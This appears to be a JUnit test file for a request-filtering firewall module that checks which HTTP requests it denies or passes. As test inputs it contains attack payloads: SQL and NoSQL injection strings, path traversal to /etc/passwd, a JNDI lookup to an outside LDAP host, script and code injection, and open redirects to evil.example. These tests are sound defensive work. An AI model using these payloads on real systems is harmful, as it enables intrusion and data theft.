package dev.portcullis.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.portcullis.Reply;
import dev.portcullis.Route;
import dev.portcullis.Verdict;
import dev.portcullis.http.RecordedWire;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class AttacksTest {

    private static final String FORM = "application/x-www-form-urlencoded";

    private final Attacks attacks = Attacks.builder().build();

    private static RecordedWire post(String type, String body) {
        return RecordedWire.of("POST", "/orders")
                .with("Content-Type", type)
                .with("Content-Length", String.valueOf(body.length()))
                .body(body);
    }

    private Verdict.Deny denial(RecordedWire wire) {
        var verdict = attacks.check(wire.view());
        assertThat(verdict).isInstanceOf(Verdict.Deny.class);
        return (Verdict.Deny) verdict;
    }

    @Test
    void passesAPlainRequest() {
        var request = RecordedWire.of("GET", "/orders/7?page=2&sort=name")
                .with("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
                .view();

        assertThat(attacks.check(request)).isSameAs(Verdict.pass());
    }

    @Test
    void deniesAnAttackInTheQuery() {
        var deny = denial(RecordedWire.of("GET", "/orders?q=1%27%20or%20%271%27=%271"));

        assertThat(deny.reply()).isEqualTo(Reply.problem(403, "attack-detected"));
        assertThat(deny.evidence().reason()).isEqualTo("sql-injection");
        assertThat(deny.evidence().matched()).containsExactly("sql-injection");
        assertThat(deny.evidence().detail()).isEqualTo("query parameter `q`: `1' or '1'='1`");
    }

    @Test
    void deniesAnAttackThatIsEncodedTwice() {
        assertThat(denial(RecordedWire.of("GET", "/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"))
                        .evidence()
                        .reason())
                .isEqualTo("path-traversal");
    }

    @Test
    void looksAtTheTailOfALongValue() {
        var padding = "lorem ipsum ".repeat(5_000);

        assertThat(denial(post(FORM, "q=" + padding + "' or 1=1 --")).evidence().matched())
                .contains("sql-injection");
        assertThat(attacks.check(post(FORM, "q=" + padding).view())).isSameAs(Verdict.pass());
    }

    @Test
    void looksAtTheLastOfManyParameters() {
        var query = "a=1&".repeat(2_000) + "q=../../etc/passwd";

        assertThat(denial(RecordedWire.of("GET", "/?" + query)).evidence().detail())
                .startsWith("query parameter `q`");
    }

    @Test
    void looksAtNamesAsWellAsValues() {
        assertThat(denial(RecordedWire.of("GET", "/?%3Cscript%3E=1")).evidence().detail())
                .startsWith("name of query parameter `<script>`");
        assertThat(denial(post("application/json", "{\"$where\": \"1\"}"))
                        .evidence()
                        .reason())
                .isEqualTo("nosql-injection");
    }

    @Test
    void looksAtCookiesAndAtHeadersThatApplicationsRead() {
        var wire = RecordedWire.of("GET", "/");

        assertThat(denial(wire.with("Cookie", "a=b; track=1'+or+'1'='1"))
                        .evidence()
                        .detail())
                .startsWith("cookie `track`");
        assertThat(denial(wire.with("x-client", "${jndi:ldap://203.0.113.7/a}"))
                        .evidence()
                        .detail())
                .startsWith("header `x-client`");
        assertThat(denial(wire.with("User-Agent", "${jndi:ldap://203.0.113.7/a}"))
                        .evidence()
                        .reason())
                .isEqualTo("jndi-lookup");
    }

    @Test
    void doesNotLookAtStandardHeaders() {
        var request = RecordedWire.of("GET", "/")
                .with("Accept", "text/html,application/xml;q=0.9,*/*;q=0.8")
                .with("Authorization", "Digest username='x' or '1'='1'")
                .with("If-None-Match", "\"a\" or \"1\"=\"1\"")
                .view();

        assertThat(attacks.check(request)).isSameAs(Verdict.pass());
    }

    @Test
    void namesAllDetectorsThatSpeak() {
        var deny = denial(RecordedWire.of("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E%27;system(%27id%27)"));

        assertThat(deny.evidence().matched()).containsSequence("cross-site-scripting", "code-injection");
    }

    @Test
    void boundsItsEvidence() {
        var name = "n".repeat(5_000);
        var deny = denial(RecordedWire.of("GET", "/?" + name + "=%27%20or%201=1%20--" + "x".repeat(5_000)));

        assertThat(deny.evidence().detail()).hasSizeLessThan(300);
    }

    @Test
    void theStricterLevelDeniesFainterHints() {
        var request = RecordedWire.of("GET", "/?q=%3Csvg%3E");

        assertThat(attacks.check(request.view())).isSameAs(Verdict.pass());
        assertThat(Attacks.builder().level(Level.STRICT).build().check(request.view()))
                .isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void theLowerLevelPassesWhatAuthorsOfCodeSend() {
        var request = RecordedWire.of("GET", "/?q=%3Cscript%20src=a.js%3E");

        assertThat(attacks.check(request.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(Attacks.builder().level(Level.LOW).build().check(request.view()))
                .isSameAs(Verdict.pass());
    }

    @Test
    void aPathOfTheApplicationsOwnIsNoProbe() {
        var probe = RecordedWire.of("GET", "/actuator/env");

        assertThat(attacks.check(probe.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(attacks.check(
                        probe.to(new Route("env", "/actuator/env", Map.of())).view()))
                .isSameAs(Verdict.pass());
        assertThat(attacks.check(
                        probe.to(new Route("any", "/{*path}", Map.of())).view()))
                .isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void looksForRedirectsWhereItIsTold() {
        var away = RecordedWire.of("GET", "/login?next=https://evil.example/");
        var disguised = RecordedWire.of("GET", "/login?next=//evil.example/");
        var redirects = Attacks.builder().only(Set.of("open-redirect")).build();

        assertThat(attacks.check(away.view())).isSameAs(Verdict.pass());
        assertThat(attacks.check(disguised.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(redirects.check(disguised.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(redirects.check(away.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(redirects.check(
                        RecordedWire.of("GET", "/login?name=//evil.example/").view()))
                .isSameAs(Verdict.pass());
        assertThat(redirects.check(RecordedWire.of("GET", "/login?next=/orders").view()))
                .isSameAs(Verdict.pass());
    }

    @Test
    void listsItsDetectorsByStableIds() {
        assertThat(Attacks.detectors())
                .containsExactlyInAnyOrder(
                        "code-injection",
                        "command-injection",
                        "cross-site-scripting",
                        "exploit-path",
                        "graphql-abuse",
                        "header-injection",
                        "java-deserialisation",
                        "jndi-lookup",
                        "ldap-injection",
                        "log-injection",
                        "mail-injection",
                        "nosql-injection",
                        "open-redirect",
                        "path-traversal",
                        "prototype-pollution",
                        "remote-file",
                        "scanner",
                        "server-request",
                        "server-settings",
                        "server-side-include",
                        "spreadsheet-formula",
                        "sql-injection",
                        "template-injection",
                        "upload-name",
                        "xml-entity",
                        "xpath-injection");
    }

    @Test
    void refusesABoundThatReadsNothing() {
        var builder = Attacks.builder();

        assertThatThrownBy(() -> builder.maxBytes(0))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("maxBytes: 0 (expected: >= 1)");
    }

    @Test
    void anExcludedParameterIsNotLookedAtByThatDetector() {
        var excluding =
                Attacks.builder().exclude(Exclusion.of("sql-injection", "q")).build();

        assertThat(excluding.check(
                        RecordedWire.of("GET", "/?q=1%27+or+%271%27=%271").view()))
                .isSameAs(Verdict.pass());
        assertThat(excluding.check(
                        RecordedWire.of("GET", "/?q=../../etc/passwd").view()))
                .isInstanceOf(Verdict.Deny.class);
        assertThat(excluding.check(
                        RecordedWire.of("GET", "/?r=1%27+or+%271%27=%271").view()))
                .isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void refusesToExcludeADetectorThatDoesNotExist() {
        assertThatThrownBy(() -> Exclusion.of("sqli", "q"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("detector: `sqli` (expected: one of [");
    }
}
